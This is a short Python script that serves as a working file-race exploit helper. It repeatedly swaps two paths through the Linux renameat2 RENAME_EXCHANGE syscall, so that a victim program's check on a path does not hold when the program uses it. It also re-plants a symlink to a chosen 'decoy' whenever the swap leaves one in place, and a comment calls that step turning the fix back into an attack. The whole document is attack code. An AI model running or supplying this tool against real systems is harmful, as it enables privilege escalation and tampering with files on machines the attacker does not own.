"""Exchanges two names as fast as it can, so that no look at one of them holds for its use."""

import ctypes
import os
import sys

AT_FDCWD, RENAME_EXCHANGE, RENAMEAT2 = -100, 2, 316
link, other, decoy = sys.argv[1:4]
libc = ctypes.CDLL(None)
first, second = os.fsencode(link), os.fsencode(other)
swaps = 0
while True:
    for _ in range(1000):
        libc.syscall(RENAMEAT2, AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE)
    swaps += 1000
    for name in (link, other):
        # what was healed is turned into an attack again
        if os.path.islink(name):
            os.symlink(decoy, name + ".new")
            os.replace(name + ".new", name)
            break
    print(swaps, flush=True)
